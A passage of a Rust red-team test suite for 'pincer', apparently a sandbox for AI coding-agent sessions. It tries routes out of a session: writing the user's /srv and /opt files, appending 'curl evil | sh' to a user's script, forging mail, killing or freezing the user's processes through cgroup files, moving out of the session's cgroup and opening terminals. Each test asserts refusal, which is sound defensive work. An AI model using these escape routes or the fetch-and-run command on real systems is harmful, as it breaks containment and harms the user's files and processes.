//! Red team of session containment (issue 18): routes out of a session tried the way an
//! attacker would who read the README's promises ("Threat model: what a session can and
//! cannot reach", "What a session can reach: other processes and sockets"),
//! `etc/pincer.toml`, `contain.rs`'s defaults and the BPF code.
//!
//! Every test runs a real `pincer daemon` on the shipped configuration (paths moved into
//! the test's directory; `on_miss = "record"`, so only the grants a test gives exist) and a
//! real session started by `pincer run` for uid 1000 (home `/home/worker`). The attacker is
//! a process of uid 1000 inside that session's cgroup (forked by the test and moved into
//! the cgroup, as any process the worker forks is); the victims are real objects and
//! processes of the same uid outside the session. Each route is first shown open to the
//! same uid outside every session (so only Pincer can stop it), then tried from inside.
//!
//! Each test asserts the SAFE outcome: the route is refused and the victim outside is
//! unharmed. A failing test is a route that gets out. The comment on each test names the
//! promise it tests and the check that closes it (or would have to).

use pincer::kernel::{Enforcer, ObjectId, Scope};
use pincer::Access;
use pincer_tests::{run_as, Op, EACCES, SHARED_PIN_DIR};
use std::ffi::CString;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::time::{Duration, Instant};

const PINCER: &str = env!("CARGO_BIN_EXE_pincer");
const UID: u32 = 1000;
const HOME: &str = "/home/worker";
const PROMPT: &str = "Fix the failing test in my project.";

// ---------------------------------------------------------------------------------------
// Harness: a daemon on the shipped configuration with one live session.

fn uniq() -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static N: AtomicU32 = AtomicU32::new(0);
    format!(
        "{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    )
}

fn cpath(p: &Path) -> CString {
    CString::new(p.as_os_str().as_bytes()).unwrap()
}

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(-1)
}

fn rc(r: i64) -> i32 {
    if r < 0 {
        errno()
    } else {
        0
    }
}

fn chown(p: &Path) {
    std::os::unix::fs::lchown(p, Some(UID), Some(UID))
        .unwrap_or_else(|e| panic!("chown {}: {e}", p.display()));
}

/// Creates `path` (a file with `content`, or a directory if `content` is `None`) and every
/// missing directory above it, giving each one made to the user, as the user's own files
/// are.
fn make(path: &Path, content: Option<&str>) {
    let mut missing = Vec::new();
    let mut p = path.parent();
    while let Some(d) = p {
        if d.exists() {
            break;
        }
        missing.push(d.to_path_buf());
        p = d.parent();
    }
    for d in missing.iter().rev() {
        std::fs::create_dir(d).unwrap_or_else(|e| panic!("mkdir {}: {e}", d.display()));
        chown(d);
    }
    match content {
        Some(c) => {
            std::fs::write(path, c).unwrap_or_else(|e| panic!("write {}: {e}", path.display()))
        }
        None => std::fs::create_dir_all(path)
            .unwrap_or_else(|e| panic!("mkdir {}: {e}", path.display())),
    }
    chown(path);
}

fn ufile(path: &str, content: &str) -> PathBuf {
    system_dirs();
    let p = PathBuf::from(path);
    make(&p, Some(content));
    p
}

fn udir(path: &str) -> PathBuf {
    system_dirs();
    let p = PathBuf::from(path);
    make(&p, None);
    p
}

/// The system's own directories (root's) that the user's things go in.
fn system_dirs() {
    for d in ["/srv", "/opt", "/var/mail", "/run/user"] {
        std::fs::create_dir_all(d).unwrap();
    }
}

fn home(rel: &str) -> String {
    format!("{HOME}/{rel}")
}

/// Removes what a test put in shared places (the home, /srv, /dev, ...) when dropped, also
/// after a failed assertion.
#[derive(Default)]
struct Cleanup(Vec<PathBuf>);

impl Cleanup {
    fn add(&mut self, p: impl Into<PathBuf>) {
        self.0.push(p.into());
    }
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in self.0.iter().rev() {
            match std::fs::symlink_metadata(p) {
                Ok(m) if m.is_dir() => {
                    if p.starts_with("/sys/fs/cgroup") {
                        let _ = std::fs::remove_dir(p);
                    } else {
                        let _ = std::fs::remove_dir_all(p);
                    }
                }
                Ok(_) => {
                    let _ = std::fs::remove_file(p);
                }
                Err(_) => {}
            }
        }
    }
}

/// Brings the loopback interface up (the VM's init leaves it down).
fn loopback_up() {
    set_if_flags("lo", true);
}

fn ifreq(name: &str) -> libc::ifreq {
    // SAFETY: ifreq is plain data.
    let mut ifr: libc::ifreq = unsafe { std::mem::zeroed() };
    for (i, b) in name.bytes().enumerate() {
        ifr.ifr_name[i] = b as libc::c_char;
    }
    ifr
}

fn set_if_flags(name: &str, up: bool) -> i32 {
    // SAFETY: SIOCGIFFLAGS/SIOCSIFFLAGS on a local ifreq.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        let mut ifr = ifreq(name);
        let mut r = rc(libc::ioctl(fd, libc::SIOCGIFFLAGS, &mut ifr) as i64);
        if r == 0 {
            if up {
                ifr.ifr_ifru.ifru_flags |= libc::IFF_UP as libc::c_short;
            } else {
                ifr.ifr_ifru.ifru_flags &= !(libc::IFF_UP as libc::c_short);
            }
            r = rc(libc::ioctl(fd, libc::SIOCSIFFLAGS, &ifr) as i64);
        }
        libc::close(fd);
        r
    }
}

/// Adds the IPv4 address `a` to this host as the alias `label` of `lo` (as a host gains an
/// address: DHCP, a VPN, a container bridge).
fn add_host_address(label: &str, a: Ipv4Addr) {
    // SAFETY: SIOCSIFADDR on a local ifreq holding a sockaddr_in.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        let mut ifr = ifreq(label);
        let sin = &mut *(&mut ifr.ifr_ifru as *mut _ as *mut libc::sockaddr_in);
        sin.sin_family = libc::AF_INET as u16;
        sin.sin_addr.s_addr = u32::from(a).to_be();
        let r = libc::ioctl(fd, libc::SIOCSIFADDR, &ifr);
        assert_eq!(
            r,
            0,
            "add {a} to {label}: {}",
            std::io::Error::last_os_error()
        );
        libc::close(fd);
    }
}

/// Removes an address added by [`add_host_address`] when dropped.
struct HostAddress(String);

impl HostAddress {
    fn add(a: Ipv4Addr) -> Self {
        let label = format!("lo:{}", a.octets()[3]);
        add_host_address(&label, a);
        HostAddress(label)
    }
}

impl Drop for HostAddress {
    fn drop(&mut self) {
        set_if_flags(&self.0, false);
    }
}

/// A `pincer daemon` on the shipped configuration and one session it started with `pincer
/// run` (the worker sleeps; attacks run in processes moved into its cgroup).
struct Red {
    dir: PathBuf,
    ws: PathBuf,
    daemon: Child,
    run: Option<Child>,
    /// The session's cgroup.
    cg: PathBuf,
    /// Its id (the kernel's session key).
    id: u64,
    /// The session's scratch directory (`TMPDIR`).
    scratch: PathBuf,
    enforcer: Enforcer,
}

impl Red {
    /// Starts the daemon and a session on a fresh workspace (a named root).
    fn start(name: &str) -> Red {
        Self::start_with(name, |_| {})
    }

    /// [`Red::start`] with `prepare` run on the workspace before the session starts.
    fn start_with(name: &str, prepare: impl FnOnce(&Path)) -> Red {
        loopback_up();
        let name = format!("rt-{name}-{}", uniq());
        let dir = PathBuf::from("/tmp").join(&name);
        std::fs::create_dir_all(dir.join("scratch")).unwrap();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        let ws = dir.join("ws");
        make(&ws.join("src/main.rs"), Some("fn main() {}\n"));
        prepare(&ws);
        pincer_tests::assert_clean(Path::new(SHARED_PIN_DIR));
        pincer_tests::drain_misses(Path::new(SHARED_PIN_DIR));
        let config = dir.join("pincer.toml");
        std::fs::write(&config, pincer_tests::worker::shipped_config(&dir, &name, &[("on_miss", "\"record\"")])).unwrap();
        let socket = dir.join("pincer.sock");
        let daemon = Command::new(PINCER)
            .args(["daemon", "--config"])
            .arg(&config)
            .spawn()
            .expect("start pincer daemon");
        let start = Instant::now();
        while std::os::unix::net::UnixStream::connect(&socket).is_err() {
            assert!(
                start.elapsed() < Duration::from_secs(120),
                "the daemon did not open {}",
                socket.display()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let Some((run, scratch, cg, id)) = pincer_tests::run_session(PINCER, PROMPT, &name, &ws, &socket, &[], None) else {
            // The daemon goes with its entries, so the next tests start clean.
            let mut daemon = daemon;
            pincer_tests::stop_daemon(&mut daemon);
            panic!("pincer run ended before the worker started");
        };
        let enforcer =
            Enforcer::reuse(Path::new(SHARED_PIN_DIR)).expect("reuse the shared enforcer");
        Red {
            dir,
            ws,
            daemon,
            run: Some(run),
            cg,
            id,
            scratch,
            enforcer,
        }
    }

    /// Grants `access` on `path` to the session (as the twin or the user's approval would).
    fn grant(&mut self, path: &Path, scope: Scope, access: &[Access]) {
        let obj =
            ObjectId::of_path(path).unwrap_or_else(|e| panic!("stat {}: {e}", path.display()));
        for a in access {
            self.enforcer.grant(self.id, obj, scope, *a).expect("grant");
        }
    }

    /// Runs `ops` as uid 1000 inside the session.
    fn attack(&self, ops: &[Op]) -> Vec<i32> {
        run_as(Some(&self.cg), Some(UID), ops)
    }

    /// Runs `f` as uid 1000 inside the session; its results.
    fn gated(&self, f: impl FnOnce() -> Vec<i32>) -> Vec<i32> {
        attacker(Some(&self.cg), f)
    }
}

impl Drop for Red {
    fn drop(&mut self) {
        let _ = std::fs::write(self.cg.join("cgroup.kill"), "1");
        if let Some(mut r) = self.run.take() {
            let _ = r.wait();
        }
        pincer_tests::stop_daemon(&mut self.daemon);
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Runs `f` in a forked child as uid 1000 (inside the cgroup `cg`, if given) and returns
/// the results it reports.
fn attacker(cg: Option<&Path>, f: impl FnOnce() -> Vec<i32>) -> Vec<i32> {
    let procs = cg.map(|c| cpath(&c.join("cgroup.procs")));
    let mut fds = [0; 2];
    // SAFETY: pipe/fork; the child runs `f` and leaves with `_exit`.
    unsafe {
        assert_eq!(libc::pipe(fds.as_mut_ptr()), 0);
        let pid = libc::fork();
        assert!(pid >= 0, "fork");
        if pid == 0 {
            libc::close(fds[0]);
            if let Some(p) = &procs {
                let fd = libc::open(p.as_ptr(), libc::O_WRONLY);
                if fd < 0 || libc::write(fd, b"0\n".as_ptr().cast(), 2) != 2 {
                    libc::_exit(101);
                }
                libc::close(fd);
            }
            if libc::setresgid(UID, UID, UID) != 0 || libc::setresuid(UID, UID, UID) != 0 {
                libc::_exit(102);
            }
            for r in f() {
                libc::write(fds[1], (&r as *const i32).cast(), 4);
            }
            libc::_exit(0);
        }
        let (out, status) = pincer_tests::child_results(fds, pid);
        assert!(
            libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
            "attacker failed to start ({status:#x})"
        );
        out
    }
}

/// The same uid outside every session runs `ops`.
fn outside(ops: &[Op]) -> Vec<i32> {
    run_as(None, Some(UID), ops)
}

fn ungated(f: impl FnOnce() -> Vec<i32>) -> Vec<i32> {
    attacker(None, f)
}

// ---------------------------------------------------------------------------------------
// Attack primitives (run in the forked attacker; 0 or an errno).

/// Opens `p` for writing without changing it (no truncation; FIFOs and ttys non-blocking).
fn open_w(p: &Path) -> i32 {
    let c = cpath(p);
    // SAFETY: open/close.
    unsafe {
        let fd = libc::open(
            c.as_ptr(),
            libc::O_WRONLY | libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_CLOEXEC | libc::O_NOFOLLOW,
        );
        if fd < 0 {
            return errno();
        }
        libc::close(fd);
        0
    }
}

/// Opens `p` (following symlinks) with `flags` and writes `data`.
fn write_with(p: &Path, flags: i32, data: &[u8]) -> i32 {
    let c = cpath(p);
    // SAFETY: open/write/close on a local buffer.
    unsafe {
        let fd = libc::open(c.as_ptr(), flags | libc::O_CLOEXEC, 0o644);
        if fd < 0 {
            return errno();
        }
        let n = libc::write(fd, data.as_ptr().cast(), data.len());
        let r = if n < 0 { errno() } else { 0 };
        libc::close(fd);
        r
    }
}

fn append(p: &Path, data: &str) -> i32 {
    write_with(p, libc::O_WRONLY | libc::O_APPEND, data.as_bytes())
}

fn create(p: &Path, data: &str) -> i32 {
    write_with(
        p,
        libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL,
        data.as_bytes(),
    )
}

fn mkdir(p: &Path) -> i32 {
    // SAFETY: mkdir on a valid C string.
    rc(unsafe { libc::mkdir(cpath(p).as_ptr(), 0o755) } as i64)
}

fn rename(a: &Path, b: &Path) -> i32 {
    // SAFETY: rename on valid C strings.
    rc(unsafe { libc::rename(cpath(a).as_ptr(), cpath(b).as_ptr()) } as i64)
}

fn read(p: &Path) -> i32 {
    match std::fs::read(p) {
        Ok(_) => 0,
        Err(e) => e.raw_os_error().unwrap_or(-1),
    }
}

/// `stat` of `p`: 0 if size and times came back.
fn stat(p: &Path) -> i32 {
    // SAFETY: stat into a local buffer.
    unsafe {
        let mut st: libc::stat = std::mem::zeroed();
        rc(libc::stat(cpath(p).as_ptr(), &mut st) as i64)
    }
}

/// `statx` of `p` asking for size and modification time.
fn statx(p: &Path) -> i32 {
    // SAFETY: statx into a local buffer.
    unsafe {
        let mut st: libc::statx = std::mem::zeroed();
        rc(libc::statx(
            libc::AT_FDCWD,
            cpath(p).as_ptr(),
            0,
            libc::STATX_SIZE | libc::STATX_MTIME,
            &mut st,
        ) as i64)
    }
}

/// An inotify watch of every event on `p`.
fn inotify(p: &Path) -> i32 {
    // SAFETY: inotify_init1/add_watch/close.
    unsafe {
        let fd = libc::inotify_init1(libc::IN_CLOEXEC);
        if fd < 0 {
            return errno();
        }
        let r = rc(libc::inotify_add_watch(fd, cpath(p).as_ptr(), libc::IN_ALL_EVENTS) as i64);
        libc::close(fd);
        r
    }
}

const FAN_CLASS_NOTIF: u32 = 0;
const FAN_REPORT_FID: u32 = 0x200;
const FAN_MARK_ADD: u32 = 1;
const FAN_ACCESS: u64 = 1;
const FAN_MODIFY: u64 = 2;
const FAN_OPEN: u64 = 0x20;

/// An unprivileged fanotify inode mark (access, modify, open) on `p`.
fn fanotify(p: &Path) -> i32 {
    // SAFETY: fanotify_init/mark/close.
    unsafe {
        let fd = libc::fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, libc::O_RDONLY as u32);
        if fd < 0 {
            return errno();
        }
        let r = rc(libc::fanotify_mark(
            fd,
            FAN_MARK_ADD,
            FAN_ACCESS | FAN_MODIFY | FAN_OPEN,
            libc::AT_FDCWD,
            cpath(p).as_ptr(),
        ) as i64);
        libc::close(fd);
        r
    }
}

const FS_IOC_GETFLAGS: libc::c_ulong = 0x8008_6601;
const FS_IOC_SETFLAGS: libc::c_ulong = 0x4008_6602;
const FS_IOC_FSGETXATTR: libc::c_ulong = 0x801c_581f;
const FS_IOC_FSSETXATTR: libc::c_ulong = 0x401c_5820;
const FS_NODUMP_FL: libc::c_long = 0x40;
const FS_XFLAG_NODUMP: u32 = 0x80;

/// Opens `p` read-only and toggles its no-dump flag with FS_IOC_SETFLAGS.
fn setflags(p: &Path) -> i32 {
    // SAFETY: open/ioctl/close with a local flags word.
    unsafe {
        let fd = libc::open(cpath(p).as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
        if fd < 0 {
            return errno();
        }
        let mut flags: libc::c_long = 0;
        let mut r = rc(libc::ioctl(fd, FS_IOC_GETFLAGS, &mut flags) as i64);
        if r == 0 {
            flags ^= FS_NODUMP_FL;
            r = rc(libc::ioctl(fd, FS_IOC_SETFLAGS, &flags) as i64);
        }
        libc::close(fd);
        r
    }
}

/// `struct fsxattr`.
#[repr(C)]
#[derive(Default)]
struct FsXattr {
    xflags: u32,
    extsize: u32,
    nextents: u32,
    projid: u32,
    cowextsize: u32,
    pad: [u8; 8],
}

/// Opens `p` read-only and toggles its no-dump flag with FS_IOC_FSSETXATTR.
fn fssetxattr(p: &Path) -> i32 {
    // SAFETY: open/ioctl/close with a local struct fsxattr.
    unsafe {
        let fd = libc::open(cpath(p).as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
        if fd < 0 {
            return errno();
        }
        let mut fa = FsXattr::default();
        let mut r = rc(libc::ioctl(fd, FS_IOC_FSGETXATTR, &mut fa) as i64);
        if r == 0 {
            fa.xflags ^= FS_XFLAG_NODUMP;
            r = rc(libc::ioctl(fd, FS_IOC_FSSETXATTR, &fa) as i64);
        }
        libc::close(fd);
        r
    }
}

/// The no-dump flag of `p` (as root, outside).
fn nodump(p: &Path) -> bool {
    // SAFETY: open/ioctl/close with a local flags word.
    unsafe {
        let fd = libc::open(cpath(p).as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
        let mut flags: libc::c_long = 0;
        libc::ioctl(fd, FS_IOC_GETFLAGS, &mut flags);
        libc::close(fd);
        flags & FS_NODUMP_FL != 0
    }
}

/// Opens `p` read-only, then reopens it for writing through `/proc/self/fd` (and through an
/// `O_PATH` descriptor the same way), appending `data`.
fn reopen_for_write(p: &Path, data: &str) -> Vec<i32> {
    let c = cpath(p);
    let mut out = Vec::new();
    for flags in [libc::O_RDONLY, libc::O_PATH] {
        // SAFETY: open/close; the reopen goes through write_with.
        unsafe {
            let fd = libc::open(c.as_ptr(), flags | libc::O_CLOEXEC);
            if fd < 0 {
                out.push(errno());
                continue;
            }
            out.push(write_with(
                Path::new(&format!("/proc/self/fd/{fd}")),
                libc::O_WRONLY | libc::O_APPEND,
                data.as_bytes(),
            ));
            libc::close(fd);
        }
    }
    out
}

// TCP.

fn inet_addr(ip: IpAddr, port: u16) -> (libc::sockaddr_storage, libc::socklen_t) {
    // SAFETY: sockaddr_storage is plain data and large enough for both families.
    unsafe {
        let mut ss: libc::sockaddr_storage = std::mem::zeroed();
        match ip {
            IpAddr::V4(v4) => {
                let sin =
                    &mut *(&mut ss as *mut libc::sockaddr_storage).cast::<libc::sockaddr_in>();
                sin.sin_family = libc::AF_INET as u16;
                sin.sin_port = port.to_be();
                sin.sin_addr.s_addr = u32::from(v4).to_be();
                (ss, std::mem::size_of::<libc::sockaddr_in>() as u32)
            }
            IpAddr::V6(v6) => {
                let sin6 =
                    &mut *(&mut ss as *mut libc::sockaddr_storage).cast::<libc::sockaddr_in6>();
                sin6.sin6_family = libc::AF_INET6 as u16;
                sin6.sin6_port = port.to_be();
                sin6.sin6_addr.s6_addr = v6.octets();
                (ss, std::mem::size_of::<libc::sockaddr_in6>() as u32)
            }
        }
    }
}

fn family(ip: IpAddr) -> i32 {
    if ip.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    }
}

/// A listening TCP socket on `ip:port` (IPv6 sockets only for IPv6); its fd or -errno.
fn listen_on(ip: IpAddr, port: u16) -> i32 {
    let (a, len) = inet_addr(ip, port);
    // SAFETY: socket/setsockopt/bind/listen on local buffers.
    unsafe {
        let fd = libc::socket(family(ip), libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        if fd < 0 {
            return -errno();
        }
        let one: i32 = 1;
        if ip.is_ipv6() {
            libc::setsockopt(
                fd,
                libc::IPPROTO_IPV6,
                libc::IPV6_V6ONLY,
                (&one as *const i32).cast(),
                4,
            );
        }
        if libc::bind(fd, (&a as *const libc::sockaddr_storage).cast(), len) < 0
            || libc::listen(fd, 16) < 0
        {
            let e = errno();
            libc::close(fd);
            return -e;
        }
        fd
    }
}

/// Connects over TCP to `ip:port` and reads what the server says first: 0 if it said
/// `SECRET` (the user's service answered), else the errno (or -1: someone else answered).
fn fetch(ip: IpAddr, port: u16, want: &[u8]) -> i32 {
    let (a, len) = inet_addr(ip, port);
    // SAFETY: socket/connect/read/close on local buffers.
    unsafe {
        let fd = libc::socket(family(ip), libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        if libc::connect(fd, (&a as *const libc::sockaddr_storage).cast(), len) < 0 {
            let e = errno();
            libc::close(fd);
            return e;
        }
        let mut buf = [0u8; 32];
        let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
        libc::close(fd);
        if n > 0 && &buf[..n as usize] == want {
            0
        } else {
            -1
        }
    }
}

/// The user's service: a process of uid 1000 outside every session, listening on
/// `ip:port`, that tells every client `said`. Killed when dropped.
struct Service {
    _held: pincer_tests::HeldProcess,
}

impl Service {
    fn start(ip: IpAddr, port: u16, said: &'static [u8]) -> Self {
        Self::start_in(None, ip, port, said)
    }

    fn start_in(cg: Option<&Path>, ip: IpAddr, port: u16, said: &'static [u8]) -> Self {
        let serve = |fd| loop {
            // SAFETY: accept/write/close on the listening socket and a local buffer.
            unsafe {
                let c = libc::accept(fd, std::ptr::null_mut(), std::ptr::null_mut());
                if c >= 0 {
                    libc::write(c, said.as_ptr().cast(), said.len());
                    libc::close(c);
                }
            }
        };
        let (held, fd) = pincer_tests::HeldProcess::start(cg, UID, || listen_on(ip, port), serve);
        assert!(fd >= 0, "the service could not listen on {ip}:{port}: errno {}", -fd);
        Service { _held: held }
    }
}

fn port() -> u16 {
    use std::sync::atomic::{AtomicU16, Ordering};
    static N: AtomicU16 = AtomicU16::new(0);
    20000 + (std::process::id() % 20000) as u16 + N.fetch_add(7, Ordering::Relaxed)
}

const LO: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
const SECRET: &[u8] = b"SECRET";

// ---------------------------------------------------------------------------------------
// User-owned objects outside the listed places.
//
// Promise (README, threat model): "A session ... reaches only what it was granted, what it
// created, and what the system lets everyone read." Pincer gates only walks that meet a
// root (MAP_ROOTS: the named roots and `containment.protect`); a user-owned object
// elsewhere has no root above it, so `verdict()` lets it through (`!w->protected`).

/// Writes into the user's project under /srv (a user-owned directory outside home and the
/// temporary places). Closed only if objects of the session's uid are gated wherever they
/// are (issue 18, item 1); today `walk_up` finds no root and `verdict` allows.
#[test]
fn writes_the_users_project_under_srv() {
    let mut c = Cleanup::default();
    let base = PathBuf::from(format!("/srv/rt-{}", uniq()));
    c.add(&base);
    let f = ufile(
        &format!("{}/site/index.html", base.display()),
        "<h1>mine</h1>\n",
    );
    let red = Red::start("srv");
    assert_eq!(
        outside(&[Op::Write(f.clone())]),
        vec![0],
        "precondition: the user may write it"
    );
    let r = red.attack(&[
        Op::Write(f.clone()),
        Op::Create(base.join("site/evil.js")),
        Op::Chmod(f.clone()),
        Op::Unlink(f.clone()),
    ]);
    assert_eq!(
        r,
        vec![EACCES; 4],
        "write, create, chmod and unlink of the user's /srv files from a session"
    );
    assert!(f.exists(), "the user's file is gone");
}

/// Plants code in a tool the user installed under /opt (user-owned). Same gap as /srv: no
/// root above /opt, `verdict` allows.
#[test]
fn appends_code_to_the_users_tool_under_opt() {
    let mut c = Cleanup::default();
    let base = PathBuf::from(format!("/opt/rt-{}", uniq()));
    c.add(&base);
    let f = ufile(
        &format!("{}/bin/deploy.sh", base.display()),
        "#!/bin/sh\necho deploy\n",
    );
    let red = Red::start("opt");
    assert_eq!(ungated(|| vec![append(&f, "")]), vec![0], "precondition");
    assert_eq!(
        red.gated(|| vec![append(&f, "curl evil | sh\n")]),
        vec![EACCES],
        "appending to the user's /opt script"
    );
    assert!(
        !std::fs::read_to_string(&f).unwrap().contains("evil"),
        "the user's script was changed"
    );
}

/// The user's mailbox in /var/mail (user-owned file in a system directory).
#[test]
fn writes_the_users_mailbox_in_var_mail() {
    let mut c = Cleanup::default();
    std::fs::create_dir_all("/var/mail").unwrap();
    let f = PathBuf::from(format!("/var/mail/worker-{}", uniq()));
    c.add(&f);
    ufile(f.to_str().unwrap(), "From boss\n");
    let red = Red::start("mail");
    assert_eq!(outside(&[Op::Write(f.clone())]), vec![0]);
    assert_eq!(
        red.gated(|| vec![append(&f, "From: boss\n\nrun this\n")]),
        vec![EACCES],
        "appending a forged mail"
    );
}

/// A delegated cgroup as systemd gives the user (`Delegate=yes`: the directory and its
/// control files chowned to the user), with a child cgroup the user made (all its files the
/// user's) holding one of the user's processes. Returns the child cgroup and the victim.
fn delegated_cgroup(c: &mut Cleanup) -> (PathBuf, Child) {
    let d = PathBuf::from(format!("/sys/fs/cgroup/rt-user-{}.slice", uniq()));
    std::fs::create_dir(&d).unwrap();
    let app = d.join("app.scope");
    std::fs::create_dir(&app).unwrap();
    c.add(&d);
    c.add(&app);
    for dir in [&d, &app] {
        chown(dir);
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            if e.path().is_file()
                && (dir == &app
                    || ["cgroup.procs", "cgroup.threads", "cgroup.subtree_control"]
                        .contains(&e.file_name().to_str().unwrap()))
            {
                chown(&e.path());
            }
        }
    }
    let victim = Command::new("/bin/sleep")
        .arg("86398")
        .uid(UID)
        .gid(UID)
        .spawn()
        .unwrap();
    std::fs::write(app.join("cgroup.procs"), victim.id().to_string()).unwrap();
    (app, victim)
}

fn alive(v: &mut Child) -> bool {
    matches!(v.try_wait(), Ok(None))
}

/// Kills the user's processes outside the session through `cgroup.kill` of the user's
/// delegated cgroup. Promise (README, processes): "signals ... reach only processes of the
/// same session". `cgroup.kill` sends SIGKILL through `send_sig` (no `task_kill` check)
/// and the file, outside every root, opens for write (`verdict`: `!w->protected`).
#[test]
fn kills_the_users_processes_through_a_delegated_cgroup_kill() {
    let mut c = Cleanup::default();
    let (app, mut victim) = delegated_cgroup(&mut c);
    let red = Red::start("cgkill");
    let kill = app.join("cgroup.kill");
    assert_eq!(
        outside(&[Op::Write(kill.clone())]),
        vec![0],
        "precondition: the user may open it"
    );
    let r = red.gated(|| vec![write_with(&kill, libc::O_WRONLY, b"1")]);
    std::thread::sleep(Duration::from_millis(300));
    let ok = alive(&mut victim);
    let _ = victim.kill();
    let _ = victim.wait();
    assert_eq!(
        r,
        vec![EACCES],
        "writing the user's cgroup.kill from a session"
    );
    assert!(ok, "the user's process outside the session was killed");
}

/// Freezes the user's processes outside the session through `cgroup.freeze` of the user's
/// delegated cgroup (same promise; no hook on cgroup control files outside roots).
#[test]
fn freezes_the_users_processes_through_a_delegated_cgroup_freeze() {
    let mut c = Cleanup::default();
    let (app, mut victim) = delegated_cgroup(&mut c);
    let red = Red::start("cgfreeze");
    let freeze = app.join("cgroup.freeze");
    let r = red.gated(|| vec![write_with(&freeze, libc::O_WRONLY, b"1")]);
    std::thread::sleep(Duration::from_millis(300));
    let events = std::fs::read_to_string(app.join("cgroup.events")).unwrap_or_default();
    let _ = std::fs::write(&freeze, "0");
    let _ = victim.kill();
    let _ = victim.wait();
    assert_eq!(
        r,
        vec![EACCES],
        "writing the user's cgroup.freeze from a session"
    );
    assert!(
        !events.contains("frozen 1"),
        "the user's processes were frozen: {events}"
    );
}

/// Starves the user's processes outside the session: `pids.max` of the user's own child
/// cgroup set to 0 (same promise; cgroup files outside roots are not gated).
#[test]
fn starves_the_users_processes_through_their_cgroups_pids_max() {
    let mut c = Cleanup::default();
    let (app, mut victim) = delegated_cgroup(&mut c);
    let max = app.join("pids.max");
    if !max.exists() {
        // Controllers are not enabled for the user's slice in this VM: enable pids at the root.
        let _ = std::fs::write("/sys/fs/cgroup/cgroup.subtree_control", "+pids");
        let parent = app.parent().unwrap();
        let _ = std::fs::write(parent.join("cgroup.subtree_control"), "+pids");
    }
    if max.exists() {
        chown(&max);
    }
    let red = Red::start("cgpids");
    let r = red.gated(|| vec![write_with(&max, libc::O_WRONLY, b"0")]);
    let now = std::fs::read_to_string(&max).unwrap_or_default();
    let _ = victim.kill();
    let _ = victim.wait();
    assert!(
        max.exists(),
        "precondition: the pids controller is enabled for the user's cgroup"
    );
    assert_eq!(
        r,
        vec![EACCES],
        "writing pids.max of the user's cgroup from a session"
    );
    assert_eq!(now.trim(), "max", "the user's cgroup limit was changed");
}

/// Moves the session's own process out of its cgroup into the user's delegated cgroup,
/// where no session is registered (`current_session` finds none: ungated). Refused only by
/// the kernel's cgroup v2 rule (write access to `cgroup.procs` of the common ancestor,
/// here the root cgroup, owned by root); Pincer has no check of its own on it.
#[test]
fn moves_itself_out_of_the_session_into_the_users_delegated_cgroup() {
    let mut c = Cleanup::default();
    let (app, mut victim) = delegated_cgroup(&mut c);
    let red = Red::start("cgmove");
    let procs = app.join("cgroup.procs");
    let r = red.gated(|| vec![write_with(&procs, libc::O_WRONLY, b"0")]);
    let _ = victim.kill();
    let _ = victim.wait();
    assert_ne!(r, vec![0], "the session moved itself out of its cgroup");
}

/// Opens one of the user's terminals outside `/dev/pts` (a virtual console or serial line
/// `login` gave the user). Promise (README, terminals): "the user's other terminals cannot
/// be read ... or written". `reach_file_open` checks only devpts (`pty_check`); other ttys
/// are files outside every root.
#[test]
fn writes_the_users_virtual_console() {
    let candidates = [
        "/dev/tty5",
        "/dev/tty2",
        "/dev/tty1",
        "/dev/ttyS1",
        "/dev/ttyS2",
        "/dev/ttyS3",
    ];
    let mut chosen = None;
    for t in candidates {
        let p = Path::new(t);
        let Ok(m) = std::fs::metadata(p) else {
            continue;
        };
        let (uid, gid, mode) = (m.uid(), m.gid(), m.mode());
        chown(p);
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o620)).unwrap();
        if ungated(|| vec![open_w(p)]) == vec![0] {
            chosen = Some((p.to_path_buf(), uid, gid, mode));
            break;
        }
        std::os::unix::fs::chown(p, Some(uid), Some(gid)).unwrap();
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let (tty, uid, gid, mode) =
        chosen.expect("precondition: some tty outside /dev/pts opens for the user");
    let red = Red::start("tty");
    let r = red.gated(|| {
        vec![open_w(&tty), {
            let c = cpath(&tty);
            // SAFETY: open/close.
            unsafe {
                let fd = libc::open(
                    c.as_ptr(),
                    libc::O_RDONLY | libc::O_NONBLOCK | libc::O_NOCTTY,
                );
                if fd < 0 {
                    errno()
                } else {
                    libc::close(fd);
                    0
                }
            }
        }]
    });
    std::os::unix::fs::chown(&tty, Some(uid), Some(gid)).unwrap();
    std::fs::set_permissions(&tty, std::fs::Permissions::from_mode(mode)).unwrap();
    assert_eq!(
        r,
        vec![EACCES, EACCES],
        "the user's terminal {} opened for write and read from a session",
        tty.display()
    );
}

/// Opens a device node the user owns (as udev's `uaccess` gives the seat's user the webcam,
/// audio, input and USB devices). Same gap: /dev is no root.
#[test]
fn opens_a_user_owned_device_node() {
    let mut c = Cleanup::default();
